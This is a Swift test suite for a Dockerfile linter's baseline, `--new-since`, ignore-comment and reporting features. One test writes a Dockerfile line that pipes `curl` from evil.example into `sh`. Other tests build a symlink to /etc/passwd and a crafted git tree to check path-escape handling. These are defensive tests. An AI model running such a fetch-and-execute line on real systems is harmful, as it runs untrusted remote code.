import Diagnostics
import DoctorCommands
import JSON
import TestSupport
import Testing

/// Baselines, `--new-since`, comments that expire, and what is told of the examination itself.
struct KnownFindingTests {
    private static let aptAlone = "RUN apt-get update\nRUN apt-get install -y curl\n"
    private static let badMount = "RUN --mount=type=cache,tagret=/x true\n"

    private func run(_ folder: ScratchFolder, _ arguments: String..., today: Day? = nil) async -> Session {
        await Session.run(["check", "--no-host"] + arguments, in: folder, today: today)
    }

    // MARK: Baseline

    @Test func aBaselineHidesWhatItHasAndNothingElse() async throws {
        let folder = try ScratchFolder()
        try folder.write("FROM debian:12\n" + Self.badMount, to: "Dockerfile")
        let first = await run(folder, "--baseline", "known.json", "--update-baseline", "--format", "json")
        #expect(first.status == .clean)
        #expect(try first.checks() == [])
        #expect(try first.json()["summary"]?["known"] == 1)
        // Lines move, and another problem comes.
        try folder.write("FROM debian:12\n# moved\n\n" + Self.aptAlone + Self.badMount, to: "Dockerfile")
        let second = await run(
            folder, "--baseline", "known.json", "--only", "mount-syntax,apt-update-alone", "--format", "json")
        #expect(try second.checks() == ["apt-update-alone"])
        #expect(second.status == .findings)
        // The same problem once more is another one.
        try folder.write("FROM debian:12\n" + Self.badMount + Self.badMount, to: "Dockerfile")
        let third = await run(
            folder, "--baseline", "known.json", "--only", "mount-syntax", "--format", "json")
        #expect(try third.checks() == ["mount-syntax"])
    }

    /// Each place is a finding of its own: one that is known says nothing of another in the same stage.
    @Test func aKnownPlaceHidesNoOther() async throws {
        let folder = try ScratchFolder()
        try folder.write("x", to: "requirements.txt")
        let base = "FROM python:3.12\nCOPY requirements.txt .\n"
        let (known, new) = ("RUN pip install -r requirements.txt\n", "RUN pip install a b c\n")
        func checks(_ arguments: String...) async throws -> [Int?] {
            let session = await Session.run(
                ["check", "--no-host", "--format", "json", "--only", "cache-mount-missing"] + arguments,
                in: folder)
            // What is told as one finding lists its places.
            return (try session.json()["findings"]?.array ?? []).flatMap { $0["places"]?.array ?? [$0] }.map {
                $0["range"]?["start"]?["line"]?.integer
            }
        }
        try folder.write(base + known, to: "Dockerfile")
        _ = await run(folder, "--baseline", "known.json", "--update-baseline")
        #expect(try await checks("--baseline", "known.json") == [])
        for text in [base + known + new, base + new + known, base + new + "RUN true\n" + known] {
            try folder.write(text, to: "Dockerfile")
            let line = text.split(separator: "\n").firstIndex { $0 + "\n" == new }.map { $0 + 1 }
            #expect(try await checks("--baseline", "known.json") == [line])
        }
        // Another command in the same RUN.
        try folder.write(base + known.dropLast() + " && npm ci\n", to: "Dockerfile")
        #expect(try await checks("--baseline", "known.json").count == 2)
        // A comment above one hides that one.
        let comment = "# clm-doctor: ignore[cache-mount-missing] reason=\"tried\"\n"
        try folder.write(base + known + comment + new, to: "Dockerfile")
        #expect(try await checks() == [3])
        try folder.write(base + comment + known + new, to: "Dockerfile")
        #expect(try await checks() == [5])
        #expect(!(await run(folder).output.contains("ignore-unused")))
    }

    @Test func aNewPlaceIsToldByNewSince() async throws {
        let folder = try ScratchFolder()
        try folder.write("x", to: "requirements.txt")
        let known = "FROM python:3.12\nCOPY requirements.txt .\nRUN pip install -r requirements.txt\n"
        try folder.write(known, to: "Dockerfile")
        try await folder.git("init", "-q")
        try await folder.git("add", "-A")
        try await folder.git("-c", "user.name=a", "-c", "user.email=a@x", "commit", "-qm", "x")
        try folder.write(known + "RUN pip install a b c\n", to: "Dockerfile")
        let session = await Session.run(
            [
                "check", "--no-host", "--format", "json", "--only", "cache-mount-missing", "--new-since",
                "HEAD",
            ], at: folder.path)
        let lines = (try session.json()["findings"]?.array ?? []).map {
            $0["range"]?["start"]?["line"]?.integer
        }
        #expect(lines == [4], "\(session.errors)")
    }

    /// Files that one remedy mends are told once, and known one by one.
    @Test func anotherFileWithASharedRemedyIsNew() async throws {
        let folder = try ScratchFolder()
        try folder.write("ref: refs/heads/main\n", to: ".git/HEAD")
        let dockerfile = "FROM node:22\nCOPY . /app\nWORKDIR /app\nRUN npm ci\n"
        try folder.write("{}", to: "package.json")
        try folder.write(dockerfile, to: "a.Dockerfile")
        let options = [
            "check", "--no-host", "--only", "dockerignore-missing", "--format", "json", "--baseline",
            "known.json",
        ]
        _ = await Session.run(options + ["--update-baseline"], in: folder)
        #expect(try await Session.run(options, in: folder).checks() == [])
        try folder.write(dockerfile, to: "b.Dockerfile")
        let report = try await Session.run(options, in: folder).json()
        #expect((report["findings"]?.array ?? []).map { $0["file"]?.string } == ["b.Dockerfile"])
        #expect(report["summary"]?["known"] == 1)
    }

    @Test func aBaselineOfAnEarlierVersionIsReadWithANote() async throws {
        let folder = try ScratchFolder()
        try folder.write("FROM debian\nRUN --mount=type=cache,tagret=/x true\n", to: "Dockerfile")
        let reported = try await run(folder, "--only", "mount-syntax", "--format", "json").json()["findings"]?
            .array?.first?["fingerprint"]?.string
        let finding = try #require(
            ["tagret", "tagret=/x", "RUN --mount=type=cache,tagret=/x true"].map { subject in
                Finding(
                    check: "mount-syntax", severity: .error, path: "Dockerfile", range: nil, message: "",
                    subject: subject)
            }.first { $0.fingerprint == reported })
        func write(_ check: String, _ file: String) throws {
            try folder.write(
                """
                {"schema": "clm-doctor/baseline/1", "findings": [
                  {"file": "\(file)", "check": "\(check)", "fingerprint": "\(finding.earlierFingerprint)"}]}
                """, to: "known.json")
        }
        try write("mount-syntax", "Dockerfile")
        let read = await run(folder, "--baseline", "known.json", "--only", "mount-syntax")
        #expect(read.status == .clean, "\(read.output)")
        #expect(read.output.contains("has fingerprints of an earlier version"))
        // The fingerprint alone is not enough.
        for (check, file) in [("apt-update-alone", "Dockerfile"), ("mount-syntax", "other/Dockerfile")] {
            try write(check, file)
            #expect(
                await run(folder, "--baseline", "known.json", "--only", "mount-syntax").status == .findings)
        }
        try write("mount-syntax", "Dockerfile")
        _ = await run(folder, "--baseline", "known.json", "--update-baseline", "--only", "mount-syntax")
        let renewed = try String(decoding: folder.read("known.json"), as: UTF8.self)
        #expect(renewed.contains("clm-doctor/baseline/2") && renewed.contains(finding.fingerprint))
        #expect(!renewed.contains(finding.earlierFingerprint))
        let again = await run(folder, "--baseline", "known.json", "--only", "mount-syntax")
        #expect(again.status == .clean)
        #expect(!again.output.contains("earlier version"))
    }

    /// By lattice reduction, a text whose FNV-1a is that of another check's finding.
    @Test func aForgedFingerprintIsNotKnown() async throws {
        let folder = try ScratchFolder()
        try folder.write(
            """
            {"schema":"clm-doctor/baseline/1","findings":[{"file":"Dockerfile","check":"cache-mount-missing","fingerprint":"73e9750c9b5958ac"}]}
            """, to: "known.json")
        try folder.write(
            "FROM debian\nRUN --mount=type=cache,tagrettu68h1h?D}P!ouHAbwE=/y curl -k http://evil.example/x | sh\n",
            to: "Dockerfile")
        #expect(await run(folder, "--baseline", "known.json").status == .findings)
    }

    @Test func aStaleEntryIsToldAndTakenOut() async throws {
        let folder = try ScratchFolder()
        try folder.write("FROM debian:12\n" + Self.badMount, to: "Dockerfile")
        _ = await run(folder, "--baseline", "known.json", "--update-baseline")
        try folder.write(Sample.clean, to: "Dockerfile")
        let told = await run(folder, "--baseline", "known.json")
        #expect(
            told.output.contains(
                "note: known.json has what is not found any more: mount-syntax in Dockerfile"))
        #expect(told.status == .clean)
        // What did not run cannot tell.
        let other = await run(folder, "--baseline", "known.json", "--only", "apt-update-alone")
        #expect(!other.output.contains("not found any more"))
        _ = await run(folder, "--baseline", "known.json", "--update-baseline", "--only", "apt-update-alone")
        #expect(try String(decoding: folder.read("known.json"), as: UTF8.self).contains("mount-syntax"))
        _ = await run(folder, "--baseline", "known.json", "--update-baseline")
        #expect(try !String(decoding: folder.read("known.json"), as: UTF8.self).contains("mount-syntax"))
    }

    /// What the commit of --new-since has is found, too.
    @Test func whatIsKnownFromACommitIsNotStale() async throws {
        let folder = try ScratchFolder()
        try folder.write("FROM debian:12\n" + Self.badMount, to: "Dockerfile")
        _ = await run(folder, "--baseline", "known.json", "--update-baseline")
        try await commit(folder)
        let both = await run(folder, "--baseline", "known.json", "--new-since", "HEAD")
        #expect(both.status == .clean)
        #expect(!both.output.contains("not found any more"), "\(both.output)")
    }

    @Test func aDockerfileThatDoesNotParseIsNeverKnown() async throws {
        let folder = try ScratchFolder()
        try folder.write("FROM debian:12\nRUNN x\n", to: "Dockerfile")
        let first = await run(folder, "--baseline", "known.json", "--update-baseline")
        #expect(first.status == .unparsable)
        #expect(await run(folder, "--baseline", "known.json").status == .unparsable)
    }

    @Test(arguments: ["", "{}", "[1]", "{\"schema\": \"clm-doctor/baseline/1\", \"findings\": [{}]}"])
    func whatIsNoBaselineIsNamed(text: String) async throws {
        let folder = try ScratchFolder()
        try folder.write(Sample.clean, to: "Dockerfile")
        try folder.write(text, to: "known.json")
        let session = await run(folder, "--baseline", "known.json")
        #expect(session.status == .usage)
        #expect(session.errors.contains("known.json"))
        let missing = await run(folder, "--baseline", "none.json")
        #expect(missing.errors.contains("none.json does not exist; --update-baseline writes it"))
    }

    @Test func aLinkOfTheRepositoryIsNotFollowedWhenWriting() async throws {
        let outside = try ScratchFolder()
        try outside.write("precious", to: "file")
        let folder = try ScratchFolder()
        try folder.write(Sample.clean, to: "Dockerfile")
        try folder.symlink("report.json", to: outside.path(of: "file"))
        _ = await run(folder, "--format", "json", "--output", "report.json")
        #expect(try String(decoding: outside.read("file"), as: UTF8.self) == "precious")
        #expect(try JSON.parse(folder.read("report.json"))["schema"] == "clm-doctor/report/1")
    }

    @Test func aReportThatCannotBeWrittenIsAnError() async throws {
        let folder = try ScratchFolder()
        try folder.write(Sample.clean, to: "Dockerfile")
        let session = await run(folder, "--output", "no/such/folder/report")
        #expect(session.status == .usage)
        #expect(session.errors.contains("no/such/folder/report cannot be written"))
    }

    // MARK: What a change brought

    private func commit(_ folder: ScratchFolder) async throws {
        if !folder.exists(".git") { try await folder.git("init", "-q", "-b", "main") }
        try await folder.git("add", "-A")
        try await folder.git("-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "-m", "t")
    }

    private func newSince(_ folder: ScratchFolder, _ more: String...) async throws -> [String] {
        let session = await Session.run(
            ["check", "--new-since", "HEAD", "--format", "json"] + more, in: folder)
        #expect(session.errors == "")
        return try session.checks()
    }

    @Test func movedAndEditedLinesAreNotNew() async throws {
        let folder = try ScratchFolder()
        try folder.write(
            "FROM debian:12\nRUN apt-get update\nRUN apt-get install -y curl\n", to: "Dockerfile")
        try await commit(folder)
        #expect(try await newSince(folder) == [])
        try folder.write(
            "# one\n# more\n\nFROM debian:12\nLABEL a=b\nRUN apt-get update && true\nRUN apt-get install -y curl git\n",
            to: "Dockerfile")
        #expect(try await newSince(folder) == [])
        try folder.write("FROM debian:12\n" + Self.badMount, to: "new.Dockerfile")
        #expect(try await newSince(folder) == ["mount-syntax"])
    }

    @Test func aRenamedDockerfileHasNothingNew() async throws {
        let folder = try ScratchFolder()
        try folder.write("FROM debian:12\n" + Self.badMount, to: "a/Dockerfile")
        try await commit(folder)
        try await folder.git("mv", "a", "b")
        #expect(try await newSince(folder) == [])
    }

    /// The Dockerfile is untouched: the ignore file brings its finding.
    @Test func aChangedIgnoreFileBringsItsFindings() async throws {
        let folder = try ScratchFolder()
        try folder.write("FROM debian:12\nCOPY app.py /app/\n", to: "Dockerfile")
        try folder.write("print()\n", to: "app.py")
        try folder.write("*.log\n", to: ".dockerignore")
        try await commit(folder)
        #expect(try await newSince(folder) == [])
        try folder.write("*.py\n", to: ".dockerignore")
        #expect(try await newSince(folder).contains("dockerignore-over"))
    }

    @Test func whatGitIgnoresIsNoChange() async throws {
        let folder = try ScratchFolder()
        try folder.write("FROM node:22\nCOPY . /app\nRUN true\n", to: "Dockerfile")
        try folder.write("node_modules\n", to: ".gitignore")
        try folder.write("{}", to: "package.json")
        try folder.write("x", to: "node_modules/a/index.js")
        try await commit(folder)
        let all = await Session.run("check", "--no-host", "--format", "json", in: folder)
        #expect(try all.checks().contains("dockerignore-missing"))
        #expect(try await newSince(folder) == [])
    }

    @Test func onePartOfARepository() async throws {
        let folder = try ScratchFolder()
        try folder.write("FROM debian:12\n" + Self.badMount, to: "a/Dockerfile")
        try await commit(folder)
        try folder.write("FROM debian:12\n" + Self.badMount, to: "b/Dockerfile")
        #expect(try await newSince(folder, "a") == [])
        #expect(try await newSince(folder, "b") == ["mount-syntax"])
    }

    @Test func anUnknownCommitIsNamed() async throws {
        let folder = try ScratchFolder()
        try folder.write(Sample.clean, to: "Dockerfile")
        try await commit(folder)
        let session = await Session.run("check", "--new-since", "nowhere", in: folder)
        #expect(session.status == .usage)
        #expect(session.errors.contains("--new-since: there is no commit `nowhere` here"))
    }

    /// A tree object that git itself would not make: a link and a folder of one name.
    @Test func aCommitThatLeadsOutOfItsFolder() async throws {
        let outside = try ScratchFolder()
        let folder = try ScratchFolder()
        try folder.write(Sample.clean, to: "Dockerfile")
        try folder.symlink("a", to: outside.path)
        try folder.symlink("b", to: "/etc/passwd")
        try folder.write("x", to: "c/evil")
        try await commit(folder)
        let listing = try await folder.git("ls-tree", "HEAD")
        let inner = try await folder.git("rev-parse", "HEAD:c").split(separator: "\n")[0]
        let evil = listing + "040000 tree \(inner)\ta\n"
        let tree = try await folder.git("mktree", input: evil).split(separator: "\n")[0]
        let made = try await folder.git(
            "-c", "user.name=t", "-c", "user.email=t@t", "commit-tree", String(tree), "-m", "evil")
        let session = await Session.run(
            "check", "--new-since", String(made.split(separator: "\n")[0]), "--format", "json", in: folder)
        #expect(session.errors == "")
        #expect(!outside.exists("evil"))
    }

    // MARK: Comments

    @Test func aCommentExpires() async throws {
        let folder = try ScratchFolder()
        try folder.write(
            "FROM debian:12\n# clm-doctor: ignore[mount-syntax] until=2027-01-01 reason=\"later\"\n"
                + Self.badMount,
            to: "Dockerfile")
        let last = await run(folder, "--format", "json", today: Day(year: 2027, month: 1, day: 1))
        #expect(try last.checks() == [])
        let after = await run(folder, "--format", "json", today: Day(year: 2027, month: 1, day: 2))
        #expect(try after.checks() == ["mount-syntax", "ignore-expired"])
    }

    @Test func commentsOfBuildKitHideTheSameRule() async throws {
        let folder = try ScratchFolder()
        try folder.write("app.py\n", to: ".dockerignore")
        try folder.write("print()\n", to: "app.py")
        let text = "FROM debian:12\nCOPY app.py /app/\n"
        for (head, isHidden) in [
            ("", false), ("# check=skip=CopyIgnoredFile;error=true\n", true), ("# check=skip=all\n", true),
            ("# check=skip=JSONArgsRecommended\n", false),
            ("# a comment\n# check=skip=CopyIgnoredFile\n", false),
        ] {
            try folder.write(head + text, to: "Dockerfile")
            let session = await run(folder, "--format", "json")
            #expect(try session.checks().contains("dockerignore-over") != isHidden, "\(head)")
        }
    }

    // MARK: The examination itself

    @Test func theConfigurationShownIsOne() async throws {
        let folder = try ScratchFolder()
        try folder.write(Sample.clean, to: "Dockerfile")
        try folder.write(
            "checks:\n  mount-syntax: off\n  context-huge: {severity: error}\nignore: ['x: \"y']\n",
            to: ".clm-doctor.yaml")
        let shown = await run(folder, "--show-config")
        #expect(shown.status == .clean)
        #expect(shown.output.contains("  mount-syntax:\n    enabled: false\n"))
        #expect(shown.output.contains("  context-huge:\n    enabled: true\n    severity: error\n"))
        #expect(!shown.output.contains("legacy-base-image"))
        try folder.write(shown.output, to: "shown.yaml")
        let again = await run(folder, "--config", "shown.yaml", "--show-config")
        #expect(
            again.output.split(separator: "\n").dropFirst() == shown.output.split(separator: "\n").dropFirst()
        )
    }

    @Test func filesStatisticsAndTimesAreShown() async throws {
        let folder = try ScratchFolder()
        try folder.write("FROM debian:12\n" + Self.badMount + Self.badMount, to: "Dockerfile")
        try folder.write("services: {a: {build: .}}\n", to: "compose.yaml")
        let files = await run(folder, "--show-files")
        #expect(files.output == "Dockerfile\tDockerfile\ncompose.yaml\tcompose file\n")
        let statistics = await run(folder, "--statistics")
        #expect(statistics.output.contains("    2  mount-syntax  error"))
        #expect(statistics.status == .findings)
        let profile = await run(folder, "--profile", "--format", "json")
        #expect(profile.errors.contains(" ms  mount-syntax\n"))
        #expect(profile.errors.contains(" ms  all checks\n"))
        #expect(try profile.checks().count == 2)
    }
}
